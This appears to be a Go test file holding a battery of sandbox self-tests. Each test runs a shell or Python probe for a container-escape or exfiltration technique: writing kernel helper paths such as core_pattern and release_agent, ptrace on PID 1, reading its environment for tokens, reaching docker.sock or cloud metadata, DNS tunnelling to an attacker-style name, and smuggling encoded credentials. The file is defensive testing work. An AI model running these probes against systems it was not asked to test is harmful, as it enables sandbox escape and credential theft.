package selftest

import (
	"fmt"
	"regexp"
	"strings"
)

// py wraps a Python body after a prelude with sc() (a raw syscall by name,
// returning (ret, errno)) and verdict() (BLOCKED on EPERM/EACCES/ENOSYS,
// else ESCAPED).
func py(body string) string {
	return "python3 - <<'PY'\n" + pyPrelude + body + "\nPY\n"
}

const pyPrelude = `import ctypes, errno, os, platform, socket, ssl, struct, sys
NR = {'x86_64': dict(init_module=175, finit_module=313, bpf=321, io_uring_setup=425, perf_event_open=298, keyctl=250, add_key=248, ptrace=101, fsopen=430, open_tree=428, unshare=272),
      'aarch64': dict(init_module=105, finit_module=273, bpf=280, io_uring_setup=425, perf_event_open=241, keyctl=219, add_key=217, ptrace=117, fsopen=430, open_tree=428, unshare=97)}[platform.machine()]
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def sc(name, *args):
    a = [ctypes.c_long(x) if isinstance(x, int) else x for x in args]
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(NR[name]), *a)
    return r, ctypes.get_errno()
def verdict(what, r, e):
    if r < 0 and e in (errno.EPERM, errno.EACCES, errno.ENOSYS):
        print('BLOCKED %s: %s' % (what, errno.errorcode.get(e, e)))
    else:
        print('ESCAPED %s: returned %d errno %s' % (what, r, errno.errorcode.get(e, e)))
        if r >= 0:
            try: os.close(r)
            except Exception: pass
`

// writeBack tries to write each file's own current content back (harmless
// if it works, and proof that the guest can write it).
func writeBack(files ...string) string {
	return `for f in ` + strings.Join(files, " ") + `; do
  if [ ! -e "$f" ]; then echo "BLOCKED $f: absent"; continue; fi
  v=$(cat "$f" 2>/dev/null)
  if (printf '%s\n' "$v" > "$f") 2>/dev/null; then echo "ESCAPED wrote $f"; else echo "BLOCKED $f: not writable"; fi
done`
}

var capLine = regexp.MustCompile(`(?m)^(Cap(?:Prm|Eff|Bnd|Amb)):\s*([0-9a-f]+)$`)

// zeroCaps passes when every CapPrm/CapEff/CapBnd/CapAmb line is zero
// and there are at least three (gVisor 2022 has no CapAmb).
func zeroCaps(o Output) error {
	m := capLine.FindAllStringSubmatch(o.Stdout, -1)
	if len(m) < 3 {
		return fmt.Errorf("inconclusive: no capability lines (exit %d): %s", o.Exit, clip(o.Stdout+o.Stderr, 200))
	}
	for _, l := range m {
		if strings.Trim(l[2], "0") != "" {
			return fmt.Errorf("%s is %s", l[1], l[2])
		}
	}
	return nil
}

// gatewayRefusal passes when the output ends in an HTTP 403 whose body is
// the gateway's denial naming rule (any rule when rule is "").
func gatewayRefusal(rule string) func(Output) error {
	return func(o Output) error {
		s := strings.TrimSpace(o.Stdout)
		if !strings.HasSuffix(s, "\n403") && s != "403" {
			return fmt.Errorf("no 403 from the gateway (exit %d): %s", o.Exit, clip(o.Stdout+o.Stderr, 200))
		}
		if !strings.Contains(s, "denied by cagebox") {
			return fmt.Errorf("a 403 that is not the gateway's: %s", clip(s, 200))
		}
		if rule != "" && !strings.Contains(s, `"`+rule+`"`) {
			return fmt.Errorf("refused, but not by %s: %s", rule, clip(s, 200))
		}
		return nil
	}
}

// reflectedOrRefused judges cases whose proof is the absence of a real
// value in a reflected response (the runner searches every output for
// it): each attempt must have been refused by the gateway or reflected by
// the upstream; an upstream that reflects nothing leaves the case n/a.
func reflectedOrRefused(o Output) error {
	if strings.Contains(o.Stdout, "UNREFLECTED") {
		return fmt.Errorf("%w: the upstream does not echo what it receives, so a swapped-in value would not be seen (%s)", ErrNotApplicable, clip(o.Stdout, 120))
	}
	return Marker(o)
}

// curlCode prints the body and then the status code on its own line.
const curlCode = `curl -sS -m 8 -w '\n%{http_code}\n' `

// Cases is the battery.
func Cases() []Case {
	return []Case{
		// Privileged-style escapes.
		{Name: "mount-host-fs", Category: "privileged",
			Attack: "the guest mounts a filesystem (a host block device, proc or tmpfs) and can reach the host's disk",
			Script: `mkdir -p /tmp/cbxm
for d in /dev/sda /dev/sda1 /dev/vda /dev/vda1 /dev/nvme0n1 /dev/xvda; do [ -e $d ] && mount -o ro $d /tmp/cbxm 2>/dev/null && { echo "ESCAPED mounted $d"; umount /tmp/cbxm; }; done
if mount -t tmpfs cbx /tmp/cbxm 2>/dev/null; then echo "ESCAPED mounted tmpfs"; umount /tmp/cbxm; else echo "BLOCKED mount tmpfs"; fi
if mount -t proc proc /tmp/cbxm 2>/dev/null; then echo "ESCAPED mounted proc"; umount /tmp/cbxm; else echo "BLOCKED mount proc"; fi`},
		{Name: "proc-sys-write", Category: "privileged",
			Attack: "the guest changes kernel tunables under /proc/sys (e.g. kernel.panic) for the whole kernel",
			Script: writeBack("/proc/sys/kernel/panic", "/proc/sys/vm/overcommit_memory", "/proc/sys/net/ipv4/ip_forward")},
		{Name: "sysrq-trigger", Category: "privileged",
			Attack: "the guest triggers magic SysRq (reboot, crash, OOM kill) on the kernel",
			Script: `if [ ! -e /proc/sysrq-trigger ]; then echo "BLOCKED absent"; elif (echo h > /proc/sysrq-trigger) 2>/dev/null; then echo "ESCAPED wrote /proc/sysrq-trigger"; else echo "BLOCKED not writable"; fi`},
		{Name: "core-pattern", Category: "privileged",
			Attack: "the guest sets kernel.core_pattern to a pipe, so the kernel runs its program as root on the next crash",
			Script: writeBack("/proc/sys/kernel/core_pattern")},
		{Name: "uevent-helper", Category: "privileged",
			Attack: "the guest sets /sys/kernel/uevent_helper, so the kernel runs its program as root on the next uevent",
			Script: writeBack("/sys/kernel/uevent_helper")},
		{Name: "modprobe-path", Category: "privileged",
			Attack: "the guest sets kernel.modprobe, so the kernel runs its program as root on an unknown binary format",
			Script: writeBack("/proc/sys/kernel/modprobe")},
		{Name: "kernel-module", Category: "privileged",
			Attack: "the guest loads code into the kernel (init_module / finit_module get past the permission check)",
			Needs:  []string{"python3"},
			Script: py(`buf = ctypes.create_string_buffer(64)
r, e = sc('init_module', buf, 64, b'')
verdict('init_module', r, e)
fd = os.open('/dev/null', os.O_RDONLY)
r, e = sc('finit_module', fd, b'', 0)
verdict('finit_module', r, e)`)},
		{Name: "cgroup-release-agent", Category: "privileged",
			Attack: "the guest writes a cgroup v1 release_agent (mounting a v1 hierarchy if need be), which the host kernel runs as root",
			Script: `n=0
for f in $(find /sys/fs/cgroup -maxdepth 2 -name release_agent 2>/dev/null); do n=1
  v=$(cat $f 2>/dev/null); if (printf '%s\n' "$v" > $f) 2>/dev/null; then echo "ESCAPED wrote $f"; else echo "BLOCKED $f not writable"; fi
done
mkdir -p /tmp/cbxcg
for s in rdma memory pids; do if mount -t cgroup -o $s cgroup /tmp/cbxcg 2>/dev/null; then echo "ESCAPED mounted cgroup v1 $s"; umount /tmp/cbxcg; else echo "BLOCKED mount cgroup $s"; fi; done`},
		// Device nodes.
		{Name: "mknod", Category: "devices",
			Attack: "the guest makes a block device node for the disk (8,0 / 253,0) and reads it raw",
			Script: `for d in "8 0" "253 0"; do if mknod /tmp/cbxdev b $d 2>/dev/null; then
  if head -c 512 /tmp/cbxdev 2>/dev/null | wc -c | grep -qv '^ *0$'; then echo "ESCAPED read block device $d"; else echo "ESCAPED made block device $d"; fi; rm -f /tmp/cbxdev
else echo "BLOCKED mknod $d"; fi; done`},
		{Name: "dev-mem", Category: "devices",
			Attack: "the guest reads physical or kernel memory or I/O ports (/dev/mem, /dev/kmem, /dev/port)",
			Script: `for d in /dev/mem /dev/kmem /dev/port; do if [ -e $d ] && [ "$(head -c 1 $d 2>/dev/null | wc -c)" -gt 0 ]; then echo "ESCAPED read $d"; else echo "BLOCKED $d"; fi; done`},
		{Name: "dev-kmsg", Category: "devices",
			Attack: "the guest reads the kernel log (/dev/kmsg, syslog(2) via dmesg): host addresses, other tenants' events",
			Script: `if [ -e /dev/kmsg ] && [ "$(timeout 2 head -c 64 /dev/kmsg 2>/dev/null | wc -c)" -gt 0 ]; then echo "ESCAPED read /dev/kmsg"; else echo "BLOCKED /dev/kmsg"; fi
if [ "$(dmesg 2>/dev/null | wc -c)" -gt 0 ]; then echo "ESCAPED dmesg"; else echo "BLOCKED dmesg"; fi`},
		// The agent (PID 1).
		{Name: "ptrace-agent", Category: "agent",
			Attack: "the guest attaches to the agent (PID 1) with ptrace and takes over its host channel",
			Needs:  []string{"python3"},
			Script: py(`r, e = sc('ptrace', 16, 1, 0, 0)
verdict('ptrace attach 1', r, e)
if r == 0: sc('ptrace', 17, 1, 0, 0)`)},
		{Name: "agent-memory", Category: "agent",
			Attack: "the guest reaches the agent's memory or descriptors through /proc/1 (opens mem or fd/N, resolves fd/N or exe)",
			Script: `if (exec 3</proc/1/mem) 2>/dev/null; then echo "ESCAPED opened /proc/1/mem"; else echo "BLOCKED mem"; fi
o=""; for f in /proc/1/fd/*; do if (exec 3<$f) 2>/dev/null || (exec 3>$f) 2>/dev/null; then o="$o ${f##*/}($(readlink $f))"; fi; done
if [ -n "$o" ]; then echo "ESCAPED opened the agent's fds:$o"; else echo "BLOCKED fd open"; fi
l=""; for f in /proc/1/fd/*; do t=$(readlink "$f" 2>/dev/null) && l="$l ${f##*/}:$t"; done
if [ -n "$l" ]; then echo "ESCAPED resolved the agent's fd links:$l"; else echo "BLOCKED fd links"; fi
if ls -l /proc/1/exe >/dev/null 2>&1 && readlink /proc/1/exe >/dev/null 2>&1; then echo "ESCAPED read /proc/1/exe"; else echo "BLOCKED exe"; fi`},
		{Name: "agent-environ", Category: "agent",
			Attack: "the agent's environment (/proc/1/environ) holds its token or another secret the guest can read",
			Script: `if [ "$(head -c 1 /proc/1/environ 2>/dev/null | wc -c)" -eq 0 ]; then echo "BLOCKED /proc/1/environ unreadable"; else
  n=$(tr '\0' '\n' < /proc/1/environ | cut -d= -f1 | tr '\n' ' ')
  if tr '\0' '\n' < /proc/1/environ | grep -iqE '^[^=]*(token|secret|key|pass|cagebox)[^=]*='; then echo "ESCAPED secret-like variable in the agent's environment: $n"; else echo "BLOCKED readable, but holds only: $n"; fi
fi`},
		{Name: "agent-socket", Category: "agent",
			Attack: "the guest finds the agent's socket or token file and talks to the agent as the host would",
			Script: `s=$(find / \( -path /proc -o -path /sys \) -prune -o -type s -print 2>/dev/null | head -5)
if [ -n "$s" ]; then echo "ESCAPED unix sockets in the guest's filesystem: $s"; else echo "BLOCKED no socket file"; fi
t=$(find / \( -path /proc -o -path /sys -o -path /usr -o -path /lib \) -prune -o \( -iname '*cagebox*.sock' -o -iname '*agent*.sock' -o -iname '*agent*token*' -o -iname '*cagebox*token*' \) -print 2>/dev/null | head -5)
if [ -n "$t" ]; then echo "ESCAPED agent files: $t"; else echo "BLOCKED no agent file"; fi
if grep -q '@' /proc/net/unix 2>/dev/null && grep '@' /proc/net/unix | grep -qi cagebox; then echo "ESCAPED abstract agent socket"; fi`},
		// Namespaces and kernel interfaces.
		{Name: "user-namespace", Category: "namespaces",
			Attack: "the guest makes a user namespace (unshare -U -r) and gains a full capability set in it, the usual step to kernel bugs",
			Script: `if command -v unshare >/dev/null 2>&1; then if unshare -U -r true 2>/dev/null; then echo "ESCAPED unshare -U -r"; else echo "BLOCKED unshare -U -r"; fi; fi
if command -v python3 >/dev/null 2>&1; then python3 -c "
import ctypes, os
l = ctypes.CDLL(None, use_errno=True)
r = l.unshare(0x10000000)
print('ESCAPED unshare(CLONE_NEWUSER)' if r == 0 else 'BLOCKED unshare(CLONE_NEWUSER) errno %d' % ctypes.get_errno())"; fi`},
		{Name: "mount-namespace", Category: "namespaces",
			Attack: "the guest makes new mount/pid/net namespaces (unshare -m -p -n) to stage a mount-based escape",
			Script: `for f in -m -n -p; do if unshare $f true 2>/dev/null; then echo "ESCAPED unshare $f"; else echo "BLOCKED unshare $f"; fi; done`},
		{Name: "new-mount-api", Category: "namespaces",
			Attack: "the guest uses the new mount API (fsopen, open_tree) to build or clone mounts",
			Needs:  []string{"python3"},
			Script: py(`r, e = sc('fsopen', b'tmpfs', 0)
verdict('fsopen', r, e)
r, e = sc('open_tree', -100, b'/', 1)
verdict('open_tree clone', r, e)`)},
		{Name: "keyring", Category: "kernel", OwnKernel: true,
			Attack: "the guest adds keys to or joins kernel keyrings (add_key, keyctl), which are not namespaced",
			Needs:  []string{"python3"},
			Script: py(`r, e = sc('add_key', b'user', b'cbx-selftest', b'x', 1, -2)
verdict('add_key', r, e)
r, e = sc('keyctl', 1, b'cbx-selftest')
verdict('keyctl join session keyring', r, e)`)},
		{Name: "bpf", Category: "kernel", OwnKernel: true,
			Attack: "the guest creates BPF maps or programs (bpf(2)), a large kernel attack surface",
			Needs:  []string{"python3"},
			Script: py(`attr = ctypes.create_string_buffer(struct.pack('IIIII', 2, 4, 4, 1, 0) + bytes(108))
r, e = sc('bpf', 0, attr, 128)
verdict('bpf map create', r, e)`)},
		{Name: "io-uring", Category: "kernel", OwnKernel: true,
			Attack: "the guest sets up an io_uring, whose operations bypass syscall filtering",
			Needs:  []string{"python3"},
			Script: py(`p = ctypes.create_string_buffer(120)
r, e = sc('io_uring_setup', 1, p)
verdict('io_uring_setup', r, e)`)},
		{Name: "perf-event", Category: "kernel", OwnKernel: true,
			Attack: "the guest opens perf events (perf_event_open), a side channel and kernel attack surface",
			Needs:  []string{"python3"},
			Script: py(`attr = ctypes.create_string_buffer(struct.pack('IIQQQQQ', 1, 128, 0, 0, 0, 0, 1 | (1 << 5) | (1 << 6)) + bytes(80))
r, e = sc('perf_event_open', attr, 0, -1, -1, 0)
verdict('perf_event_open', r, e)`)},
		// Privileges.
		{Name: "capabilities", Category: "privileges",
			Attack: "a guest process holds a capability (CapPrm, CapEff, CapBnd or CapAmb not zero)",
			Script: `grep -E '^Cap(Prm|Eff|Bnd|Amb):' /proc/self/status`, Check: zeroCaps},
		{Name: "setuid-exec", Category: "privileges",
			Attack: "exec of a setuid-root binary grants capabilities (CapEff/CapPrm not zero after exec)",
			Script: `p=$(command -v cat); case "$p" in /*) ;; *) p=$(which cat 2>/dev/null || echo /bin/busybox);; esac
mkdir -p /tmp/cbxsu && cp "$(readlink -f "$p")" /tmp/cbxsu/cat && chmod 4755 /tmp/cbxsu/cat && /tmp/cbxsu/cat /proc/self/status | grep -E '^Cap(Prm|Eff|Bnd|Amb):'
for b in $(find / -xdev -perm -4000 -type f 2>/dev/null | head -3); do echo "# setuid in image: $b"; done`, Check: zeroCaps},
		// Host namespaces.
		{Name: "host-pids", Category: "host",
			Attack: "host processes (kthreadd, systemd, the daemon, other sandboxes' VMMs) are visible to the guest",
			Script: `n=0; for c in /proc/[0-9]*/comm; do n=$((n+1)); case "$(cat $c 2>/dev/null)" in kthreadd|systemd|init|sshd|containerd|dockerd|cagebox|runsc*|runc|crun|qemu-system*|firecracker) echo "ESCAPED host process visible: $(cat $c) ($c)";; esac; done
if [ $n -gt 100 ]; then echo "ESCAPED $n processes visible"; else echo "BLOCKED $n processes visible"; fi`},
		{Name: "runtime-sockets", Category: "host",
			Attack: "a container engine's or cagebox's own control socket, or a runtime's state directory, is reachable from the guest (docker.sock, containerd, podman, the daemon's API): whoever talks to it starts privileged containers",
			Script: `for p in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock /var/run/containerd/containerd.sock /run/podman/podman.sock /var/run/crio/crio.sock /run/crun /run/runc /run/runsc /var/run/runsc /var/lib/cagebox /var/lib/cagebox/cagebox.sock /run/cagebox /var/lib/docker /var/lib/containerd; do
  if [ -e "$p" ]; then echo "ESCAPED present in the guest: $p"; else echo "BLOCKED absent: $p"; fi
done
if command -v python3 >/dev/null 2>&1; then python3 -c "
import socket
for p in ('/var/run/docker.sock', '/run/containerd/containerd.sock', '/var/lib/cagebox/cagebox.sock', '@containerd-shim', '@cagebox'):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(p.replace('@', chr(0), 1)); print('ESCAPED connected to %s' % p)
    except OSError as ex: print('BLOCKED %s: %s' % (p, ex.strerror))
"; fi`},
		{Name: "host-net", Category: "host",
			Attack: "the guest sees the host's network interfaces (it shares the host's network namespace)",
			Script: `ifs=$(tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ' | grep -v '^lo$')
n=$(printf '%s\n' "$ifs" | grep -c .)
case " $(echo $ifs) " in *docker0*|*virbr*|*br-*|*cni*) echo "ESCAPED host bridge visible: $ifs";; esac
if [ "$n" -gt 1 ]; then echo "ESCAPED $n interfaces besides lo: $(echo $ifs)"; else echo "BLOCKED interfaces: lo $(echo $ifs)"; fi`},
		// Exfiltration.
		{Name: "dns-tunnel", Category: "exfiltration",
			Attack: "a query for a name the policy does not allow gets an answer (data leaves in the name, answers come back)",
			Needs:  []string{"python3"},
			Script: py(`ns = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
for qt in (1, 16, 28):
    pkt = struct.pack('>HHHHHH', 0x4242, 0x0100, 1, 0, 0, 0)
    for part in ('x' + os.urandom(8).hex() + '.exfil.attacker-selftest.com').split('.'):
        pkt += bytes([len(part)]) + part.encode()
    pkt += b'\x00' + struct.pack('>HH', qt, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    try:
        s.sendto(pkt, (ns, 53)); resp = s.recv(4096)
    except Exception as ex:
        print('ESCAPED? no answer from the resolver (%s): inconclusive' % ex); continue
    rcode, an = resp[3] & 0x0f, struct.unpack('>H', resp[6:8])[0]
    if an == 0 and rcode in (3, 5): print('BLOCKED qtype %d rcode %d' % (qt, rcode))
    else: print('ESCAPED qtype %d rcode %d answers %d' % (qt, rcode, an))`)},
		{Name: "dns-other-resolver", Category: "exfiltration",
			Attack: "the guest queries a public resolver (8.8.8.8, 1.1.1.1) directly over UDP or TCP 53 and gets an answer",
			Needs:  []string{"python3"},
			Script: py(`q = struct.pack('>HHHHHH', 0x4243, 0x0100, 1, 0, 0, 0) + b'\x07example\x03com\x00' + struct.pack('>HH', 1, 1)
for ip in ('8.8.8.8', '1.1.1.1'):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    try:
        s.sendto(q, (ip, 53)); r = s.recv(512)
        rc, an = r[3] & 0x0f, struct.unpack('>H', r[6:8])[0]
        if an == 0 and rc in (3, 5): print('BLOCKED udp %s: rcode %d, no answer (the synthetic resolver answered)' % (ip, rc))
        else: print('ESCAPED udp answer from %s (rcode %d, %d answers)' % (ip, rc, an))
    except Exception as ex: print('BLOCKED udp %s: %s' % (ip, ex))
    try:
        t = socket.create_connection((ip, 53), timeout=4); t.settimeout(4)
        t.sendall(struct.pack('>H', len(q)) + q); r = b''
        while len(r) < 14:
            b = t.recv(512)
            if not b: break
            r += b
        if len(r) >= 14 and struct.unpack('>H', r[8:10])[0] == 0 and (r[5] & 0x0f) in (3, 5): print('BLOCKED tcp %s: rcode %d, no answer (the synthetic resolver answered)' % (ip, r[5] & 0x0f))
        elif len(r) > 2: print('ESCAPED tcp answer from %s: %r' % (ip, r[:40]))
        else: print('BLOCKED tcp %s: closed' % ip)
    except Exception as ex: print('BLOCKED tcp %s: %s' % (ip, ex))`)},
		{Name: "doh-dot", Category: "exfiltration",
			Attack: "the guest reaches a DNS-over-HTTPS (1.1.1.1:443) or DNS-over-TLS (1.1.1.1:853) resolver",
			Needs:  []string{"python3"},
			Script: py(`ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
for port in (443, 853):
    try:
        t = ctx.wrap_socket(socket.create_connection(('1.1.1.1', port), timeout=5), server_hostname='cloudflare-dns.com')
        t.settimeout(5)
        t.sendall(b'GET /dns-query?dns=AAABAAABAAAAAAAAB2V4YW1wbGUDY29tAAABAAE HTTP/1.1\r\nHost: cloudflare-dns.com\r\nAccept: application/dns-message\r\n\r\n')
        r = t.recv(4096)
        if b'denied by cagebox' in r or r.startswith(b'HTTP/1.1 403'): print('BLOCKED %d: gateway 403' % port)
        elif r: print('ESCAPED %d: answer %r' % (port, r[:60]))
        else: print('BLOCKED %d: closed' % port)
    except Exception as ex: print('BLOCKED %d: %s' % (port, ex))`)},
		{Name: "icmp", Category: "exfiltration",
			Attack: "ICMP echo leaves the sandbox (ping tunnels)",
			Script: `if ping -c 1 -W 3 1.1.1.1 2>&1 | grep -q 'bytes from'; then echo "ESCAPED ping 1.1.1.1 answered"; else echo "BLOCKED ping 1.1.1.1"; fi
if ping -c 1 -W 3 {{GATEWAY}} 2>&1 | grep -q 'bytes from'; then echo "# the gateway answers ping (not a way out)"; fi`},
		{Name: "udp-out", Category: "exfiltration",
			Attack: "UDP to an outside address (QUIC, WireGuard, any tunnel) gets through and is answered",
			Needs:  []string{"python3"},
			Script: py(`for ip, port in (('1.1.1.1', 443), ('8.8.8.8', 123), ('9.9.9.9', 51820)):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    try:
        s.sendto(b'\x1b' + bytes(47), (ip, port)); r = s.recv(512); print('ESCAPED udp %s:%d answered' % (ip, port))
    except Exception as ex: print('BLOCKED udp %s:%d: %s' % (ip, port, ex))`)},
		{Name: "ipv6", Category: "exfiltration",
			Attack: "the guest has a routable IPv6 address or route, a second way out past the IPv4 policy",
			Script: `if grep -v ' lo$' /proc/net/if_inet6 2>/dev/null | grep -qv '^fe80'; then echo "ESCAPED global IPv6 address: $(grep -v ' lo$' /proc/net/if_inet6 | grep -v '^fe80' | head -1)"; else echo "BLOCKED no global IPv6 address"; fi
if grep -v '^00000000000000000000000000000000 00 .* lo$' /proc/net/ipv6_route 2>/dev/null | grep -v ' lo$' | awk '$1 !~ /^fe80/ && $1 !~ /^ff/' | grep -q .; then echo "ESCAPED IPv6 route: $(grep -v ' lo$' /proc/net/ipv6_route | awk '$1 !~ /^fe80/ && $1 !~ /^ff/' | head -1)"; else echo "BLOCKED no IPv6 route"; fi`},
		{Name: "raw-socket", Category: "exfiltration",
			Attack: "the guest opens raw or packet sockets (spoofing, sniffing, crafting traffic around the proxy)",
			Needs:  []string{"python3"},
			Script: py(`for fam, typ, proto, what in ((socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, 'raw icmp'), (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW, 'raw ip'), (socket.AF_PACKET, socket.SOCK_RAW, 0x0300, 'packet')):
    try:
        s = socket.socket(fam, typ, proto); print('ESCAPED %s socket opened' % what); s.close()
    except OSError as ex: print('BLOCKED %s: %s' % (what, ex))`)},
		{Name: "literal-ip", Category: "exfiltration",
			Attack: "an HTTP request to a literal IP address (no name from the sandbox's DNS) is forwarded",
			Needs:  []string{"curl"},
			Script: curlCode + `http://1.2.3.4/selftest`, Check: gatewayRefusal("builtin:literal-ip")},
		{Name: "metadata", Category: "exfiltration",
			Attack: "the cloud metadata service (169.254.169.254) answers: instance credentials",
			Needs:  []string{"curl"},
			Script: curlCode + `-H 'Metadata-Flavor: Google' http://169.254.169.254/latest/meta-data/`, Check: gatewayRefusal("")},
		{Name: "host-fronting", Category: "exfiltration",
			Attack: "a request with Host different from the TLS SNI (domain fronting) reaches an unallowed host through an allowed one",
			Needs:  []string{"curl", "upstream"},
			Script: curlCode + `-H 'Host: fronted.selftest.invalid' https://{{UPSTREAM}}/selftest`, Check: gatewayRefusal("builtin:domain-fronting")},
		{Name: "non-http-443", Category: "exfiltration",
			Attack: "a non-HTTP, non-TLS protocol over port 443 to an allowed name is forwarded (a raw tunnel)",
			Needs:  []string{"python3", "upstream"},
			Script: py(`try:
    t = socket.create_connection(('{{UPSTREAM}}', 443), timeout=5); t.settimeout(5)
    t.sendall(b'SSH-2.0-OpenSSH_9.0 cbx-selftest\r\n' + os.urandom(64))
    r = t.recv(4096)
    print(('ESCAPED forwarded: %r' % r[:60]) if r else 'BLOCKED closed without data')
except Exception as ex: print('BLOCKED %s' % ex)`)},
		{Name: "encoded-placeholder", Category: "exfiltration",
			Attack: "the placeholder, encoded (base64, percent-encoding, Basic auth, split across headers, in the query), makes the gateway swap the real value in for a host it is not bound to (the allowed upstream reflects what it receives, and every output is searched for the real value)",
			Needs:  []string{"curl", "python3", "upstream"},
			Script: `p="${{{SECRET_VAR}}}"
b64=$(printf '%s' "$p" | base64 | tr -d '
')
pct=$(python3 -c "import sys,urllib.parse; print(''.join('%%%02X' % c for c in sys.argv[1].encode()))" "$p")
half=$(( ${#p} / 2 ))
a=$(printf '%s' "$p" | cut -c1-$half); z=$(printf '%s' "$p" | cut -c$((half+1))-)
try() { what=$1; shift; out=$(curl -sS -m 8 -w '
%{http_code}' "$@" 2>&1); code=$(printf '%s' "$out" | tail -n 1)
  case "$out" in *"denied by cagebox"*) echo "BLOCKED $what: the gateway refused ($code)";;
    *auth=*) echo "BLOCKED $what: forwarded without the real value ($code)"; printf '%s
' "$out" | head -n 5;;
    *) echo "UNREFLECTED $what: $code";; esac; }
try base64-bearer -H "Authorization: Bearer $b64" https://{{UPSTREAM}}/selftest
try basic-auth -u "x:$p" https://{{UPSTREAM}}/selftest
try percent-encoded-query "https://{{UPSTREAM}}/selftest?t=$pct"
try plain-query "https://{{UPSTREAM}}/selftest?t=$p"
try split-headers -H "Authorization: Bearer $a" -H "X-Rest: $z" https://{{UPSTREAM}}/selftest
try lowercase -H "authorization: bearer $p" https://{{UPSTREAM}}/selftest`, Check: reflectedOrRefused},
		{Name: "reflected-secret", Category: "exfiltration",
			Attack: "an upstream the credential is bound to echoes the request back (a debug endpoint, an error page): the real value it received reaches the guest in the response",
			Needs:  []string{"curl", "upstream"},
			Script: `out=$(curl -sS -m 8 -w '
%{http_code}' -H "Authorization: Bearer ${{{REFLECT_VAR}}}" https://{{UPSTREAM}}/selftest 2>&1)
case "$out" in *auth=*) echo "BLOCKED the response reached the guest (searched for the real value)"; printf '%s
' "$out" | head -n 5;; *) echo "UNREFLECTED $(printf '%s' "$out" | tail -n 1)";; esac`, Check: reflectedOrRefused},
		{Name: "placeholder-unbound", Category: "exfiltration",
			Attack: "a credential placeholder sent to a host it is not bound to is forwarded (the gateway would leak it or swap it in)",
			Needs:  []string{"curl", "upstream"},
			Script: curlCode + `-H "Authorization: Bearer ${{{SECRET_VAR}}}" https://{{UPSTREAM}}/selftest`, Check: gatewayRefusal("")},
	}
}
